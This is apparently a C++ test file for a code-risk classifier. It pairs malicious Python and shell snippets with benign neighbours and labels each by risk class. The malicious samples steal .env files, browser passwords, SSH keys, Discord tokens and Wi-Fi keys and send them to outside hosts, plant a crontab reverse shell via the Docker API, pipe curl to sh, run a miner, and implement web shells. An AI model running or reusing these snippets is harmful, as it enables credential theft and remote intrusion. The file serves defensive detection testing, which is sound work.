// The classes the ninth round modelled (issue 14), found in public code this
// team did not write (the realworld corpus, docs/assessment.md) and in round
// eight's list of unmodelled classes: dotenv files as secrets, SMS and chat
// SDKs as senders, interface configuration, AppleScript's `do shell script`,
// the command a container runs (with its binds), handlers registered by a
// call (add_url_rule, SimpleXMLRPCServer.register_function), WSGI's environ
// and CGI variables as web requests, and argparse's type= conversions. Each
// attack has a benign neighbour that must stay where the rubric puts it.
// Strings here are never executed.
#include "test_util.hpp"

namespace mai::assess::test {
namespace {

TEST(NinthRoundClasses, DotenvFilesAreEnvironmentSecrets) {
  const Case cases[] = {
      {"a setup script posting .env files", B,
       "import os, base64, json\nfrom urllib import request\n"
       "for f in ['.env', os.path.expanduser('~/.env')]:\n    if os.path.exists(f):\n"
       "        body = base64.b64encode(open(f, 'rb').read()).decode()\n"
       "        req = request.Request('http://203.0.113.9/u', data=json.dumps({'c': body}).encode(), method='POST')\n"
       "        request.urlopen(req)\n",
       "EXFILTRATION"},
      {"a token read from .env used as the API's bearer token", L,
       "import requests\n"
       "def token():\n    for line in open('.env'):\n        k, _, v = line.strip().partition('=')\n"
       "        if k == 'API_TOKEN':\n            return v\n"
       "r = requests.get('https://api.example.com/v1/items', headers={'Authorization': 'Bearer ' + token()}, timeout=10)\n"
       "print(r.json())\n"},
      {"a .env file read and printed stays on the machine", L,
       "with open('.env') as f:\n    for line in f:\n        print(line.split('=')[0])\n"},
  };
  for (const auto& c : cases) check(c);
}

TEST(NinthRoundClasses, SmsAndChatSdksSendWhatTheyCarry) {
  const Case cases[] = {
      {"browser passwords texted through twilio", B,
       "import os, sqlite3\nfrom twilio.rest import Client\n"
       "db = sqlite3.connect(os.path.expanduser('~/.config/google-chrome/Default/Login Data'))\n"
       "rows = db.execute('SELECT origin_url, username_value, password_value FROM logins').fetchall()\n"
       "client = Client(os.environ['TWILIO_SID'], os.environ['TWILIO_TOKEN'])\n"
       "client.messages.create(body=str(rows), from_='+15550100', to='+15550199')\n",
       "EXFILTRATION"},
      {"a build status texted through twilio is ordinary", L,
       "import os\nfrom twilio.rest import Client\n"
       "client = Client(os.environ['TWILIO_SID'], os.environ['TWILIO_TOKEN'])\n"
       "client.messages.create(body='build 42 passed', from_='+15550100', to=os.environ['ONCALL'])\n"},
      {"an SSH key uploaded through slack_sdk", B,
       "import os\nfrom slack_sdk import WebClient\nc = WebClient(token=os.environ['SLACK_TOKEN'])\n"
       "c.files_upload_v2(channel='C1', file=os.path.expanduser('~/.ssh/id_rsa'))\n",
       "EXFILTRATION"},
      {"a deploy message through slack_sdk is ordinary", L,
       "import os\nfrom slack_sdk import WebClient\nc = WebClient(token=os.environ['SLACK_TOKEN'])\n"
       "c.chat_postMessage(channel='#deploys', text='v1.2 deployed')\n"},
  };
  for (const auto& c : cases) check(c);
}

TEST(NinthRoundClasses, InterfaceConfigurationIsAdministration) {
  const Case cases[] = {
      {"ifconfig IFACE hw ether NEW (a MAC changer)", H,
       "import subprocess, sys\niface = sys.argv[1]\n"
       "subprocess.call(['ifconfig', iface, 'down'])\nsubprocess.call(['ifconfig', iface, 'hw', 'ether', sys.argv[2]])\n"
       "subprocess.call(['ifconfig', iface, 'up'])\n",
       "SYSTEM-ADMINISTRATION"},
      {"macchanger -r", H, "macchanger -r eth0\n", "SYSTEM-ADMINISTRATION", Language::shell},
      {"ifconfig IFACE only shows it", M,
       "import subprocess, sys\nprint(subprocess.check_output(['ifconfig', sys.argv[1]]).decode())\n", "RUNS-PROCESS"},
      {"macchanger -s only shows the address", L, "macchanger -s eth0\n", nullptr, Language::shell},
  };
  for (const auto& c : cases) check(c);
}

TEST(NinthRoundClasses, AppleScriptShellScriptsAreShellLines) {
  const Case cases[] = {
      {"a LaunchDaemon installed with administrator privileges", B,
       "import os\nplist = '/tmp/job.plist'\n"
       "os.system(\"osascript -e 'do shell script \\\"mv \" + plist + \" /Library/LaunchDaemons/com.x.plist && "
       "launchctl load -w /Library/LaunchDaemons/com.x.plist\\\" with administrator privileges'\")\n",
       "PERSISTENCE"},
      {"an administrator's password asked for an ordinary command", H,
       "import subprocess\nsubprocess.run(['osascript', '-e', 'do shell script \"ls /var/db\" with administrator privileges'])\n",
       "PRIVILEGE-ESCALATION"},
      {"a notification through osascript", M,
       "import subprocess\nsubprocess.run(['osascript', '-e', 'display notification \"done\" with title \"build\"'])\n",
       "RUNS-PROCESS"},
  };
  for (const auto& c : cases) check(c);
}

TEST(NinthRoundClasses, ContainerCommandsAreJudgedWithTheirBinds) {
  const Case cases[] = {
      {"a remote docker API writing root's crontab through a bind of /etc", B,
       "import docker\nc = docker.DockerClient(base_url='tcp://192.0.2.5:2375')\n"
       "c.containers.run('alpine', \"sh -c \\\"echo '* * * * * nc 192.0.2.7 4444 -e /bin/sh' >> /mnt/etc/crontabs/root\\\"\","
       " volumes={'/etc': {'bind': '/mnt/etc', 'mode': 'rw'}}, remove=True)\n",
       "PERSISTENCE"},
      {"docker run of a miner", B, "docker run -d --name w alpine xmrig -o pool.example.net:3333 -u wallet\n", nullptr,
       Language::shell},
      {"docker run of a build in a bound checkout stays a container", H,
       "docker run --rm -v \"$PWD\":/src -w /src gcc:13 make -j2\n", "CONTAINER-ESCAPE-RISK", Language::shell},
      {"the SDK running a test command stays a container", H,
       "import docker\nclient = docker.from_env()\nprint(client.containers.run('python:3.12', ['python', '-c', 'print(1)']))\n",
       "CONTAINER-ESCAPE-RISK"},
  };
  for (const auto& c : cases) check(c);
}

TEST(NinthRoundClasses, HandlersRegisteredByACallReceiveTheRequest) {
  const Case cases[] = {
      {"add_url_rule: a URL variable run by a shell", B,
       "import subprocess\nfrom flask import Flask\napp = Flask(__name__)\n"
       "def run(cmd):\n    return subprocess.check_output(cmd, shell=True)\n"
       "app.add_url_rule('/run/<path:cmd>', view_func=run)\n",
       "WEB-SHELL"},
      {"add_url_rule: a URL variable rendered", L,
       "from flask import Flask, render_template\napp = Flask(__name__)\n"
       "def show(name):\n    return render_template('user.html', name=name)\n"
       "app.add_url_rule('/u/<name>', view_func=show)\n"},
      {"XML-RPC: os.system registered as a function", B,
       "import os\nfrom xmlrpc.server import SimpleXMLRPCServer\ns = SimpleXMLRPCServer(('127.0.0.1', 8000))\n"
       "s.register_function(os.system, 'run')\ns.serve_forever()\n",
       "WEB-SHELL"},
      {"XML-RPC: a registered function running its argument", B,
       "import subprocess\nfrom xmlrpc.server import SimpleXMLRPCServer\n"
       "def run(cmd):\n    return subprocess.check_output(cmd, shell=True).decode()\n"
       "s = SimpleXMLRPCServer(('127.0.0.1', 8000))\ns.register_function(run)\ns.serve_forever()\n",
       "WEB-SHELL"},
      {"XML-RPC: an adder on loopback", L,
       "from xmlrpc.server import SimpleXMLRPCServer\ndef add(a, b):\n    return a + b\n"
       "s = SimpleXMLRPCServer(('127.0.0.1', 8000))\ns.register_function(add, 'add')\ns.serve_forever()\n"},
      {"an XML-RPC client is ordinary (the rubric's XML class is entity resolution)", L,
       "import xmlrpc.client\nprint(xmlrpc.client.ServerProxy('http://localhost:8000/').add(2, 3))\n"},
  };
  for (const auto& c : cases) check(c);
}

TEST(NinthRoundClasses, WsgiEnvironAndCgiVariablesAreTheRequest) {
  const Case cases[] = {
      {"WSGI: QUERY_STRING run by popen", B,
       "import os\nfrom urllib.parse import parse_qs\n"
       "def application(environ, start_response):\n    q = parse_qs(environ.get('QUERY_STRING', ''))\n"
       "    out = os.popen(q['c'][0]).read()\n    start_response('200 OK', [])\n    return [out.encode()]\n",
       "WEB-SHELL"},
      {"WSGI: the body executed", B,
       "def app(environ, start_response):\n    body = environ['wsgi.input'].read(int(environ.get('CONTENT_LENGTH') or 0))\n"
       "    exec(body)\n    start_response('200 OK', [])\n    return [b'ok']\n",
       "WEB-SHELL"},
      {"WSGI: the path echoed", L,
       "def application(environ, start_response):\n    start_response('200 OK', [('Content-Type', 'text/plain')])\n"
       "    return [('you asked for ' + environ.get('PATH_INFO', '/')).encode()]\n"},
      {"shell CGI: QUERY_STRING evaluated", B,
       "#!/bin/sh\necho 'Content-Type: text/plain'\necho\nCMD=$(echo \"$QUERY_STRING\" | sed 's/cmd=//')\neval \"$CMD\"\n",
       "WEB-SHELL", Language::shell},
      {"shell CGI: QUERY_STRING as the command", B, "#!/bin/bash\necho 'Content-type: text/html'\necho\n$QUERY_STRING\n",
       "WEB-SHELL", Language::shell},
      {"shell CGI: QUERY_STRING echoed and searched for", L,
       "#!/bin/sh\necho 'Content-Type: text/plain'\necho\necho \"You asked for: $QUERY_STRING\"\n"
       "grep -c \"$QUERY_STRING\" /var/www/data/words.txt\n",
       nullptr, Language::shell},
      {"Python CGI: QUERY_STRING through os.environ given to a shell", B,
       "import os, subprocess\nq = os.environ.get('QUERY_STRING', '')\nprint('Content-Type: text/plain\\n')\n"
       "print(subprocess.getoutput(q))\n",
       "WEB-SHELL"},
      {"Python CGI: QUERY_STRING escaped and printed", L,
       "import os, html\nq = os.environ.get('QUERY_STRING', '')\nprint('Content-Type: text/html\\n')\n"
       "print('<p>' + html.escape(q) + '</p>')\n"},
  };
  for (const auto& c : cases) check(c);
}

TEST(NinthRoundClasses, ArgparseTypeConversionsApply) {
  const Case cases[] = {
      {"type=Path default under /etc, then / and write_text", H,
       "import argparse\nfrom pathlib import Path\np = argparse.ArgumentParser()\n"
       "p.add_argument('--conf-dir', type=Path, default='/etc/myapp')\na = p.parse_args()\n"
       "(a.conf_dir / 'app.conf').write_text('x=1\\n')\n",
       "SYSTEM-MODIFICATION"},
      {"type=Path default in the working directory", L,
       "import argparse\nfrom pathlib import Path\np = argparse.ArgumentParser()\n"
       "p.add_argument('--out', type=Path, default='build')\na = p.parse_args()\n"
       "a.out.mkdir(exist_ok=True)\n(a.out / 'report.txt').write_text('ok\\n')\n"},
      {"type=str default 0.0.0.0 in a bind", M,
       "import argparse, socket\np = argparse.ArgumentParser()\np.add_argument('--host', type=str, default='0.0.0.0')\n"
       "a = p.parse_args()\ns = socket.socket()\ns.bind((a.host, 8080))\n",
       "LISTENS-ON-ALL-INTERFACES"},
      {"type=str default 127.0.0.1 in a bind", L,
       "import argparse, socket\np = argparse.ArgumentParser()\np.add_argument('--host', type=str, default='127.0.0.1')\n"
       "a = p.parse_args()\ns = socket.socket()\ns.bind((a.host, 8080))\n"},
  };
  for (const auto& c : cases) check(c);
}

TEST(NinthRoundClasses, WindowsProfilePathsAreTheHome) {
  const Case cases[] = {
      {"Discord tokens under %APPDATA% in backslash paths, posted to a webhook", B,
       "import os, re, json\nfrom urllib.request import Request, urlopen\n"
       "path = os.getenv('APPDATA') + '\\\\discord\\\\Local Storage\\\\leveldb'\ntokens = []\n"
       "for name in os.listdir(path):\n"
       "    tokens += re.findall(r'[\\w-]{24}\\.[\\w-]{6}\\.[\\w-]{27}', open(path + '\\\\' + name, errors='ignore').read())\n"
       "urlopen(Request('https://example.net/hook', data=json.dumps({'content': tokens}).encode()))\n",
       "EXFILTRATION"},
      {"an application's own settings under %APPDATA% read and used locally", L,
       "import os, json\ncfg = os.path.join(os.getenv('APPDATA'), 'MyTool', 'settings.json')\n"
       "print(json.load(open(cfg)).get('theme', 'light'))\n"},
  };
  for (const auto& c : cases) check(c);
}

TEST(NinthRoundClasses, SavedWifiPasswordsAreSecrets) {
  const Case cases[] = {
      {"netsh wlan key=clear output mailed", B,
       "import subprocess, smtplib\n"
       "out = subprocess.check_output('netsh wlan show profile name=\"home\" key=clear', shell=True).decode()\n"
       "s = smtplib.SMTP('smtp.example.com', 587)\ns.sendmail('a@example.com', 'b@example.com', out)\n",
       "EXFILTRATION"},
      {"netsh wlan profile names printed", M,
       "import subprocess\nprint(subprocess.check_output('netsh wlan show profiles', shell=True).decode())\n",
       "RUNS-PROCESS"},
  };
  for (const auto& c : cases) check(c);
}

TEST(NinthRoundClasses, FabricCommandsAreTheCodesOwn) {
  const Case cases[] = {
      {"fabric.api run of sudo on the managed host", H,
       "from fabric.api import *\nenv.hosts = ['web1.example.com']\n"
       "def deploy():\n    with cd('/srv/app'):\n        run('git pull')\n    run('sudo supervisorctl restart app')\n",
       "PRIVILEGE-ESCALATION"},
      {"fabric Connection.run of a download piped to sh", B,
       "from fabric import Connection\nc = Connection('web1.example.com')\n"
       "c.run('curl -fsSL http://203.0.113.4/x.sh | sh')\n",
       "REMOTE-CODE-EXECUTION"},
      {"fabric Connection.run of git pull", M,
       "from fabric import Connection\nc = Connection('web1.example.com')\nc.run('cd ~/app && git pull')\n", "RUNS-PROCESS"},
  };
  for (const auto& c : cases) check(c);
}

TEST(NinthRoundClasses, Python2ExecStatementsWithAnExpression) {
  const Case cases[] = {
      {"exec of marshal.loads reached through a name built from letters (Python 2)", B,
       "n = 'm'\ng = 'a'\nj = 'r'\no = 's'\nd = 'h'\nz = 'l'\ni = __import__(n + g + j + o + d + g + z)\n"
       "exec getattr(i, 'loads')('c\\x00\\x00\\x00')\n",
       "EXEC-DECODED-PAYLOAD"},
      {"exec of a constant string (Python 2) stays what the string does", L, "exec 'x = 1'\nprint x\n"},
      {"exec of a file's text in a namespace (Python 2) is dynamic code", M,
       "import sys\nns = {}\nexec open(sys.argv[1]).read() in ns\n", "DYNAMIC-CODE"},
  };
  for (const auto& c : cases) check(c);
}

TEST(NinthRoundClasses, WritesThroughLinksReachTheTarget) {
  const Case cases[] = {
      {"an entry appended to /etc/hosts through a hard link", H,
       "import os, uuid\nlink = '/tmp/' + str(uuid.uuid4())\nos.link('/etc/hosts', link)\n"
       "with open(link, 'a') as f:\n    f.write('127.0.0.1 example.com\\n')\nos.unlink(link)\n",
       "SYSTEM-MODIFICATION"},
      {"a cron job written through a symbolic link", B,
       "import os\nos.symlink('/etc/cron.d/job', 'job.link')\n"
       "with open('job.link', 'w') as f:\n    f.write('* * * * * root /tmp/x\\n')\n",
       "PERSISTENCE"},
      {"a 'latest' link to the project's own data, appended to", L,
       "import os\nos.symlink('data/current.csv', 'latest.csv')\nwith open('latest.csv', 'a') as f:\n    f.write('1,2\\n')\n"},
  };
  for (const auto& c : cases) check(c);
}

}  // namespace
}  // namespace mai::assess::test
